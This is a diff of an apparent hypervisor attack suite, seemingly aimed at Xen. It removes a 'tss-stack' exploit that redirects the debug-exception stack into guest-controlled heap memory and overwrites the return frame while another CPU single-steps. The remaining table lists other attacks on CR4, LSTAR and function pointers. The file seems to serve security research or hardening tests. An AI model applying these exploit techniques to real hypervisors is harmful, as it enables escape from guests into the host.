@@ -6,9 +6,6 @@
 #define _GNU_SOURCE
 #include "attacker.h"
 
-#include <signal.h>
-#include <string.h>
-
 #define SMEP (1UL << 20)
 #define PGE (1UL << 7)
 #define WP (1UL << 16)
@@ -76,53 +73,6 @@ static void lstar(void)
 
 /* ---- what the processor saves and loads ---- */
 
-static volatile int stack_is_made;
-
-static void go_on(int signal) { (void)signal; }
-
-/* Single steps, one after the other: the flag is in what the handler returns to. */
-static void *debug_exceptions(void *unused)
-{
-    struct sigaction action = { .sa_handler = go_on };
-
-    on_cpu(1);
-    sigaction(SIGTRAP, &action, NULL);
-    while ( !stack_is_made )
-        asm volatile ("pause");
-    asm volatile ("pushfq; orq $0x100, (%rsp); popfq");
-    for ( ; ; )
-        asm volatile ("pause");
-    return unused;
-}
-
-/* Debug exceptions get a stack in the heap, and there the frame that they return by is overwritten. */
-static void tss(void)
-{
-    word heap = heap_pages(3), top = heap + 0x1000, end = heap + STACK_SIZE, own = fact(FACT_GUEST_FRAME, 0) | (STACK_SIZE - 1);
-    word other = peek(data("stack_base") + 8) + STACK_SIZE - 512, ist = per_cpu("tss_page", 1) + fact(FACT_IST_DEBUG, 0);
-    word copy = end - 1 - own + fact(FACT_GUEST_FRAME, 0); /* where the frame of the guest is copied to */
-    int i;
-
-    /* What the hypervisor keeps at a stack's end, while the other CPU runs this program. */
-    start_on_other_cpu(debug_exceptions);
-    pause_ms(100);
-    copy_words(end - 512, other, 64);
-    for ( i = 0; i < 2; i++ )
-    {
-        word frame = i ? copy : top - 40;
-
-        hammer(4 * i, frame, won_anywhere(), won_anywhere());
-        hammer(4 * i + 1, frame + 8, XEN_CS, XEN_CS);
-        hammer(4 * i + 2, frame + 16, 2, 2); /* no more single steps */
-        hammer(4 * i + 3, frame + 32, 0, 0);
-    }
-    poke(data("attack_go"), 0);
-    poke4(ist, top);
-    poke4(ist + 4, top >> 32);
-    stack_is_made = 1;
-    cause(CAUSE_HAMMER, 50 * 1000 * 1000);
-}
-
 static void *guest_loop(void *unused)
 {
     on_cpu(1);
@@ -181,7 +131,6 @@ const struct attack state_attacks[] = {
     { "cr4-call", "the function that loads CR4 is called to switch SMEP off, for code of a guest's", cr4_call },
     { "cr4-cache", "what the hypervisor believes CR4 to be loses SMEP, for code of a guest's", cr4_cache },
     { "lstar", "the function that sets MSR_LSTAR is called after its argument in memory was changed", lstar },
-    { "tss-stack", "the TSS gives debug exceptions a stack in the heap, whose frames are overwritten", tss },
     { "host-state", "the RIP that the processor loads when a PVH guest exits is overwritten", host_state, 1 },
     { "pointer-race", "a function pointer is good and bad in turn, by the other CPU, while it is called", pointer_race },
     { "return-race", "a return word is good and bad in turn, by the other CPU, while its function returns", return_race },
